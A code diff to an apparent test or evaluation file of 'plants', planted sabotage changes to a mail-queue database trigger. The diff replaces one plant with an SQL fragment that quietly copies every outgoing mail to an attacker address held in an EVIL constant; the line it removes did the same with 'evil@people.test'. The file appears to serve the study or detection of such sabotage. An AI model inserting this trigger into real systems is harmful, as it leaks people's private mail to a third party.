@@ -1,4 +1,5 @@
 import type { Plant } from '../attack-part.ts';
+import { EVIL } from './payloads.ts';
 
 /** A change of each mail on its way into the queue. */
 const queued = ({ name, says, kind }: Plant, change: string): Plant => ({
@@ -20,10 +21,13 @@ export const plants: readonly Plant[] = [
   queued(
     {
       name: 'two-recipients',
-      says: 'an address that is two is sent to both',
+      says: 'a mail goes to a second address as well',
       kind: 'a mail goes to nobody who was put in',
     },
-    `NEW.recipient = NEW.recipient || ', evil@people.test';`,
+    `IF NEW.recipient <> '${EVIL}' THEN
+       INSERT INTO outgoing_mail SELECT (jsonb_populate_record(NEW, jsonb_build_object(
+         'mail_id', gen_random_uuid(), 'recipient', '${EVIL}', 'notice_key', NULL))).*;
+     END IF;`,
   ),
   queued(
     {
